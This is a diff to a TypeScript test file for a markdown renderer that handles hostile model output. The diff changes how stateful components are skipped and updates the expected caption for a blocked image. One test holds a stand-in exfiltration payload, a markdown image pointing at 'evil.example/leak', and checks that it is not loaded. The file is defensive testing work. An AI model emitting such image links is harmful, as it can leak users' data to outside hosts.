@@ -1,7 +1,9 @@
 import { expect, test } from 'bun:test';
 import type { ReactNode } from 'react';
+import { CopyButton } from '../copy-button.tsx';
 import { drawTokens } from './draw-tokens.tsx';
 import { HOSTILE_TEXTS } from './hostile-texts.test-data.ts';
+import { LoadPicture } from './load-picture.tsx';
 import { BlockSplitter } from './split-blocks.ts';
 
 interface Drawn {
@@ -24,7 +26,7 @@ const PROPS: Readonly<Record<string, ReadonlySet<string>>> = {
   figure: new Set(['className', 'children']),
 };
 
-/** All elements and all texts of a tree. Our own parts are called as React would; the copy button is ours and holds no words of a model. */
+/** All elements and all texts of a tree. Our own parts are called as React would; those with a state are named here. */
 function walk(node: ReactNode, elements: Drawn[], texts: string[]): void {
   if (typeof node === 'string' || typeof node === 'number') texts.push(String(node));
   else if (Array.isArray(node)) for (const child of node) walk(child as ReactNode, elements, texts);
@@ -33,7 +35,7 @@ function walk(node: ReactNode, elements: Drawn[], texts: string[]): void {
     if (typeof type === 'string') {
       elements.push({ tag: type, props });
       walk(props.children as ReactNode, elements, texts);
-    } else if (typeof type === 'function' && type.name !== 'CopyButton') {
+    } else if (typeof type === 'function' && type !== CopyButton && type !== LoadPicture) {
       walk((type as (props: unknown) => ReactNode)(props), elements, texts);
     } else if (typeof type === 'symbol') walk(props.children as ReactNode, elements, texts);
   }
@@ -112,7 +114,7 @@ test('a refused address is shown beside the words that hid it', () => {
 test('a picture is named with its host and not loaded', () => {
   const { elements, text } = draw('![a cat](https://evil.example/leak?q=1)');
   expect(elements.some(({ tag }) => tag === 'img')).toBe(false);
-  expect(text).toContain('“a cat”, not loaded from evil.example');
+  expect(text).toBe('Picture “a cat” from evil.example');
 });
 
 test('ordinary markdown is drawn as what it is', () => {
